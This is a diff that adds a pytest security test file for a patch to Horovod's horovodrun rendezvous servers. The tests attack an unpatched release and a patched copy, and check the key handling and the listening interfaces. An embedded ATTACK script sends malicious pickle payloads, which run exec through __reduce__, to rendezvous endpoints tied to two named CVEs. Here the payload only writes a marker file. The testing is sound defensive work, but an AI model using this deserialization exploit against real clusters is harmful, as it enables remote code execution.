@@ -1,0 +1,197 @@
+"""What strangers can do to the servers of horovodrun, without and with the patch safe-rendezvous."""
+
+from __future__ import annotations
+
+import base64
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable
+from concurrent.futures import Future, ThreadPoolExecutor
+from contextlib import suppress
+from pathlib import Path
+from typing import NamedTuple
+
+import psutil
+import pytest
+
+from hvdenv.environments.installation import Installation
+from hvdenv.runner import Runner
+from hvdenv.verification import (
+    checks,  # noqa: F401
+    collectors,
+)
+from hvdenv.verification.collection import CHECKS, Setup
+from tests.real.doctored import purelib
+from tests.real.test_patches import prepare
+from tests.standin import Cluster
+
+KEY = "HOROVOD_RENDEZVOUS_KEY"
+ADVISORIES = ("CVE-2024-10190", "CVE-2026-31234")
+# Each runs on the first host, with ranks on both.
+ELASTIC = (
+    "horovodrun", "--gloo", "-np", "2", "--min-np", "2", "--host-discovery-script", "{folder}/hosts",
+    "--network-interface", "{interface}", "sleep", "6",
+)  # fmt: skip
+FUNCTION = (
+    "python", "-c", "import time, horovod; print('results', horovod.run(lambda: time.sleep(4) or 7,"
+    " np=2, hosts='gpu32:1,gpu33:1', {by}))",
+)  # fmt: skip
+BY_MPI = "use_mpi=True, network_interfaces=['{interface}'], mpi_args='--prefix {mpi}'"
+JOBS = {
+    "elastic": ELASTIC,
+    "function over Gloo": (*FUNCTION[:2], FUNCTION[2].replace("{by}", "use_gloo=True")),
+    "function over MPI": (*FUNCTION[:2], FUNCTION[2].replace("{by}", BY_MPI)),
+}
+# Sends what the advisories describe to each port of another host.
+ATTACK = """
+import base64, http.client, pickle, sys
+folder, address, *ports = sys.argv[1:]
+class Payload:
+    def __init__(self, name):
+        self.name = name
+    def __reduce__(self):
+        return exec, (f"open('{folder}/{self.name}', 'w')",)
+paths = {"CVE-2024-10190": "/worker_addresses/gpu32:0", "CVE-2026-31234": "/runfunc/func"}
+for port in ports:
+    for name, path in paths.items():
+        client = http.client.HTTPConnection(address, int(port), timeout=1)
+        try:
+            client.request("PUT", path, base64.b64encode(pickle.dumps(Payload(name))))
+            print(port, name, client.getresponse().status)
+        except Exception as error:
+            print(port, name, error)
+"""
+
+
+class Seen(NamedTuple):
+    """What was seen while a job ran: keys in environments, command lines, and open ports."""
+
+    keys: set[str]
+    command_lines: set[tuple[str, ...]]
+    listening: set[str]
+
+
+def look(seen: Seen, folder: Path) -> None:
+    for process in psutil.process_iter():
+        with suppress(psutil.Error):
+            words = process.cmdline()
+            seen.command_lines.add(tuple(words))
+            if str(folder) in " ".join(words):
+                seen.keys.update(filter(None, [process.environ().get(KEY)]))
+
+
+def listening(cluster: Cluster) -> set[str]:
+    """Addresses at which programs of the first host listen."""
+    lines = cluster.on("gpu32", ["ss", "-Hltn"]).stdout.splitlines()
+    return {line.split()[3] for line in lines}
+
+
+def attacked(
+    cluster: Cluster, installation: Installation, job: tuple[str, ...], folder: Path
+) -> tuple[subprocess.CompletedProcess[str], Seen]:
+    """Run a job on both hosts, and attack it from the second one for as long as it runs."""
+    (folder / "hosts").write_text("#!/bin/sh\necho gpu32:1\necho gpu33:1\n")
+    (folder / "hosts").chmod(0o755)
+    (folder / "attack.py").write_text(ATTACK)
+    path = ":".join([*installation.path, "/usr/bin", "/bin"])
+    mpi = Path(installation.path[-1]).parent  # a copy has none of its own
+    argv = [word.format(folder=folder, interface=cluster.interface, mpi=mpi) for word in job]
+    seen, before = Seen(set(), set(), set()), listening(cluster)
+    with ThreadPoolExecutor() as pool:
+        running: Future[subprocess.CompletedProcess[str]] = pool.submit(
+            cluster.on, "gpu32", argv, env={"PATH": path}, check=False, timeout=100
+        )
+        while not running.done():
+            new = listening(cluster) - before
+            seen.listening.update(new)
+            ports = sorted({address.rpartition(":")[2] for address in new})
+            attack = [
+                sys.executable,
+                f"{folder}/attack.py",
+                str(folder),
+                cluster.addresses["gpu32"],
+            ]
+            cluster.on("gpu33", [*attack, *ports])
+            look(seen, Path(installation.prefix))
+    return running.result(), seen
+
+
+@pytest.fixture
+def stock(
+    original: Installation, copy: Callable[..., Installation], tmp_path: Path
+) -> Installation:
+    """A copy of the environment whose launcher is that of Horovod as it was released."""
+    installation = copy()
+    source = prepare(Path(original.python), "0.28.1", [], tmp_path / "release")
+    there = purelib(Path(installation.python)) / "horovod" / "runner"
+    shutil.rmtree(there)
+    shutil.copytree(source / "horovod" / "runner", there)
+    return installation
+
+
+def judged(installation: Installation, runner: Runner) -> tuple[str, str]:
+    """What verify says."""
+    facts = collectors.rendezvous(Setup(installation, runner), 20.0)
+    (finding,) = CHECKS["rendezvous"](facts)
+    return finding.status, finding.message
+
+
+def test_a_release_of_horovod_runs_code_of_strangers(
+    stock: Installation, cluster: Cluster, runner: Runner, tmp_path: Path
+) -> None:
+    status, message = judged(stock, runner)
+    assert (status, [name in message for name in ADVISORIES]) == ("skip", [True, True])
+    for name, advisory in zip(JOBS, ADVISORIES, strict=False):
+        attacked(cluster, stock, JOBS[name], tmp_path)
+        assert (tmp_path / advisory).exists(), name
+
+
+@pytest.mark.parametrize("name", JOBS)
+def test_strangers_are_refused(
+    copy: Callable[..., Installation], cluster: Cluster, runner: Runner, tmp_path: Path, name: str
+) -> None:
+    """Jobs end well; their key is in no command line; they listen on one interface only."""
+    installation = copy()
+    assert judged(installation, runner)[0] == "pass"
+    job, seen = attacked(cluster, installation, JOBS[name], tmp_path)
+    assert job.returncode == 0, job.stdout + job.stderr
+    assert ("results [7, 7]" in job.stdout) == (name != "elastic")
+    assert not [each for each in ADVISORIES if (tmp_path / each).exists()]
+    assert len(seen.keys) == 1
+    (key,) = seen.keys
+    assert not [words for words in seen.command_lines if key in " ".join(words)]
+    assert not [words for words in seen.command_lines if has_service_key(words)]
+    if name == "elastic":  # it was told of the interface, and mpirun has ports of its own
+        own = cluster.addresses["gpu32"]
+        assert {address.rpartition(":")[0] for address in seen.listening} == {own}
+
+
+def has_service_key(words: tuple[str, ...]) -> bool:
+    """Whether the settings that a host gets from horovodrun contain the key of its services."""
+    *_, settings = [word for text in words for word in text.split()] or [""]
+    if not any("horovod.runner.task_fn" in word for word in words):
+        return False
+    with suppress(ValueError):
+        return b"C\x20" in base64.b64decode(settings)  # a pickle of 32 bytes
+    return False
+
+
+def test_fuzzing(original: Installation, tmp_path: Path) -> None:
+    fuzz(original, 5, tmp_path)
+
+
+def fuzz(installation: Installation, seconds: int, folder: Path) -> None:
+    """tests/fuzz.py in an environment."""
+    program = Path(__file__).parents[1] / "fuzz.py"
+    argv = [installation.python, str(program), str(seconds), "1", f"{folder}/marker"]
+    found = subprocess.run(
+        argv,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+        check=False,
+        timeout=seconds + 60,
+    )
+    assert found.returncode == 0, found.stdout
+    print(found.stdout)
